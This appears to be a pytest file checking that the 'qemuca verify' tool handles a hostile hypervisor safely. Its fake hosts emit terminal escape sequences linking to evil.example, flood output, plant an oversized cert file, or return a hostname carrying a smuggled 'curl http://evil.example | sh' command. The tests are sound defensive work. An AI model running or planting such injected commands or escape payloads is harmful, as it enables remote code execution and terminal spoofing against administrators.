"""A hostile hypervisor: what it prints and the files it holds never reach the admin's
terminal raw, never fill the admin's memory, and never become a name qemuca trusts.

Each fake host gets its misbehaviour from a bind mount inside its own mount namespace
(a `hostname` that prints escape codes, or 300 MB of NULs; a 300 MB sparse ca-cert.pem),
then the real `qemuca verify` runs against it over real SSH, as an admin would.
"""

from __future__ import annotations

import json
import os
import resource

import pytest

from tests.support.pki import make_store, run_qemuca

pytestmark = pytest.mark.sshd

ESCAPES = "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\ [bold]x[/bold] \x1b[2J\x9b31m"


def fake_program(host, path: str, script: str) -> None:
    """Replace `path` inside the host only (its private mount namespace)."""
    host.write(f"/tmp/fake-{os.path.basename(path)}", "#!/bin/sh\n" + script, 0o755)
    host.run(["mount", "--bind", f"/tmp/fake-{os.path.basename(path)}", path])


def ssh(fleet):
    return ["--ssh-config", str(fleet.ssh_config), "--known-hosts", str(fleet.known_hosts)]


def child_peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


@pytest.fixture
def deployed(fleet_factory, tmp_path):
    fleet = fleet_factory(3)
    home = make_store(tmp_path)
    proc = run_qemuca(home, "deploy", *fleet.names, "--issue", *ssh(fleet), "--json")
    assert proc.returncode == 0, proc.stderr
    return home, fleet


def test_escape_codes_and_markup_from_a_host_are_shown_as_text(deployed):
    home, fleet = deployed
    host = fleet[0]
    fake_program(host, "/usr/bin/hostname", f"printf '%s\\n' '{ESCAPES}'\n"
                                            f"printf '%s\\n' '{ESCAPES}' >&2\nexit 0\n")
    table = run_qemuca(home, "verify", host.name, *ssh(fleet), env={"COLUMNS": "200"})
    assert table.returncode == 1, table.stdout + table.stderr
    for out in (table.stdout, table.stderr):
        assert not any(c in out for c in "\x1b\x9b\x07"), repr(out)
    assert "\\x1b]8;;https://evil.example" in table.stdout  # shown, escaped, not as a live link
    assert "[bold]x[/bold]" in table.stdout  # markup shown as typed
    proc = run_qemuca(home, "verify", host.name, *ssh(fleet), "--json")
    name_check = next(c for c in json.loads(proc.stdout)[0]["checks"] if c["check"] == "host name")
    assert "not a host name" in name_check["detail"], name_check
    assert "\x1b" not in name_check["detail"]


@pytest.mark.parametrize("attack", ["hostname-floods", "huge-sparse-bundle"])
def test_unbounded_output_and_files_are_refused_in_bounded_memory(deployed, attack):
    home, fleet = deployed
    host = fleet[1]
    if attack == "hostname-floods":
        fake_program(host, "/usr/bin/hostname", "head -c 300000000 /dev/zero\n")
        needle = "hostname printed more than 1048576 bytes"
    else:
        host.run(["truncate", "-s", "300M", "/etc/pki/qemu/ca-cert.pem"])  # through the links
        needle = "file ca-cert.pem: /etc/pki/qemu/ca-cert.pem: cannot read it"
    proc = run_qemuca(home, "verify", host.name, *ssh(fleet), "--json")
    assert "Traceback" not in proc.stderr, proc.stderr
    report = json.loads(proc.stdout)[0]
    texts = [f'{c["check"]}: {c["detail"]}' for c in report["checks"]] + [report.get("error") or ""]
    assert any(needle in t and ("too large" in t or "printed" in t) for t in texts), texts
    assert proc.returncode != 0
    # The run never held the 300 MB: its peak stays far below (about 100 MB for Python).
    assert child_peak_rss_mib() < 250, child_peak_rss_mib()


def test_a_hostname_that_is_not_a_name_is_never_suggested_in_a_command(deployed):
    home, fleet = deployed
    host = fleet[2]
    fake_program(host, "/usr/bin/hostname", "echo 'hv1; curl http://evil.example | sh'\n")
    proc = run_qemuca(home, "verify", host.name, *ssh(fleet), "--json")
    report = json.loads(proc.stdout)[0]
    name_check = next(c for c in report["checks"] if c["check"] == "host name")
    assert name_check["result"] != "pass" and "not a host name" in name_check["detail"], name_check
    for c in report["checks"]:
        assert "curl" not in (c.get("fix") or ""), c
